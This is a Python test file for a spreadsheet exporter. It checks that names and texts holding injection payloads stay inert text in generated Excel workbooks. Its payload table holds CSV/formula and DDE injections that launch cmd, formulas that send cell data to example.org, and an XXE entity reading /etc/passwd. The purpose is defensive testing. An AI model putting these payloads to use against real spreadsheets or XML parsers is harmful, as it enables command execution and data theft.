"""Names and texts that are written to be more than text stay text in a workbook, wherever they stand."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from optimizer.documents.dossier import Dossier
from optimizer.documents.excel.text import clean, speaks_first
from optimizer.documents.excel.workbook import workbook
from tests.builders import clause, policy, region
from tests.optimizer.documents.excel import read_back
from tests.optimizer.documents.made import made

PAYLOADS = {
    "sum": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "command after plus": "+cmd|' /C calc'!A0",
    "command after minus": "-cmd|' /C calc'!A0",
    "command after at": "@cmd|' /C calc'!A0",
    "macro": "@SUM(1+1)*cmd|' /C calc'!A0",
    "DDE": '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "DDEAUTO": 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    "hyperlink": '=HYPERLINK("http://example.org/?x="&A1,"舒兰市")',
    "web service": '=WEBSERVICE("http://example.org/"&A1)',
    "import": '=IMPORTXML(CONCAT("http://example.org/?v=", CONCATENATE(A2:E2)), "//a")',
    "array": "{=1+1}",
    "minus": "-2+3",
    "plus": "+1+1",
    "at": "@A1",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "both line ends": "甲\r\n=1+1",
    "quote": "'=1+1",
    "double quote": '"=1+1"',
    "separator": ";=1+1",
    "comma": ',=1+1,"',
    "full-width equals": "＝1+1",
    "full-width at": "＠SUM(A1)",
    "space before": " =1+1",
    "no-break space before": "\u00a0=1+1",
    "mark before": "\ufeff=1+1",
    "percent": "%0A=1+1",
    "web address": "http://example.org/",
    "file address": "file:///etc/passwd",
    "network address": "\\\\example.org\\share",
    "mail address": "mailto:a@example.org",
    "internal address": "internal:Sheet2!A1",
    "script": "<script>alert(1)</script>",
    "closing tags": "</t></si></sst><x>",
    "character data": "]]><f>1+1</f><![CDATA[",
    "entity": "&lt;f&gt;&xxe;&#x0;",
    "document type": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "formatted string": "<r><t>=1+1</t></r>",
    "formatted string with a formula": "<r><rPr/></r></si><f>1+1</f><si><r></r>",
    "escape of Excel": "_x003D_1+1",
    "escaped control": "_x0000_",
    "null": "甲\x00=1+1",
    "controls": "\x01\x02\x08\x0b\x0c\x0e\x1f",
    "terminal": "\x1b[31m\x1b]0;x\x07",
    "C1 controls": "\x80\x9b31m",
    "half a character": "甲\ud800乙",
    "no characters": "\ufffe\uffff",
    "reversed": "\u202e县",
    "emoji": "👩‍⚕️😀",
    "header code": '&P&[Picture]&G&"Arial"',
    "address of a cell": "Sheet2!$A$1",
    "sheet name": "[]:*?/\\'",
    "template": "{region}{0.__class__}%s",
    "number": "12345",
    "date": "2020-01-01",
    "true": "TRUE",
    "error": "#N/A",
    "blank": "   ",
    "long": "=" + "长" * 40_000,
}
BENIGN = "ordinary"


def laden(folder: Path, text: str) -> Dossier:
    """Two counties in which every name, source, unit and title is the text."""
    instance = region(
        areas=[
            {"area": "A", "name": text, "name_en": text, "residents": 1000, "area_km2": 5},
            {"area": "B", "name": f"{text}2", "residents": 2000, "area_km2": 5},
        ],
        facilities=[
            {"facility": "H", "area": "A", "name": text, "type": text},
            {"facility": "N", "area": "B", "name": f"{text}2", "status": "candidate", "open_cost": 3},
        ],
        resources=[{"resource": "beds", "name": text, "name_en": text, "unit": text, "capital_cost": 5}],
        stock={("H", "beds"): 4, ("N", "beds"): 0},
    )
    told = replace(instance, title=text, title_en=text, sources={text: text}, currency=text, warnings=(text,))
    sentences = policy(
        clause(id="C1", name=text, name_en=text, cite=text, reason=text, require="beds", at_least=9),
        clause(id="C2", name=text, cite=text, require="beds", at_least=7, per="1000 residents", level="region"),
        clause(id="C3", name=text, cite=text, require="beds", exactly=7, level="region", nature="reference"),
    )
    return made(folder, told, replace(sentences, title=text))


@pytest.fixture(scope="module")
def ordinary(tmp_path_factory: pytest.TempPathFactory) -> set[str]:
    """The parts of the same workbook with an ordinary text."""
    return set(read_back.parts(workbook(laden(tmp_path_factory.mktemp("benign"), BENIGN), "zh")))


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_a_payload_stays_text(payload: str, ordinary: set[str], tmp_path: Path) -> None:
    """Every part is whole XML; no formula, link or part is added; the text reads back as it was told, as text."""
    content = workbook(laden(tmp_path, payload), "zh")
    assert set(read_back.parts(content)) == ordinary
    assert read_back.formulas(content) == []
    assert all(each.startswith("图表数据!") for each in read_back.chart_references(content))
    pages = read_back.by_calamine(content)
    assert [row[0] for row in pages["各机构"] if row[2] == clean(payload)]
    assert {type(cell) for page in pages.values() for row in page for cell in row if cell == clean(payload)} == {str}


@pytest.mark.parametrize("kind", [kind for kind, text in PAYLOADS.items() if speaks_first(clean(text))])
def test_a_payload_stays_text_when_it_is_edited(kind: str, tmp_path: Path) -> None:
    """A cell that begins like a formula is marked as text, so that typing into it makes none."""
    text = clean(PAYLOADS[kind])
    cells = [
        cell
        for page in read_back.pages(workbook(laden(tmp_path, PAYLOADS[kind]), "zh")).values()
        for row in page.iter_rows(min_row=4)
        for cell in row
        if cell.value == text
    ]
    assert cells
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
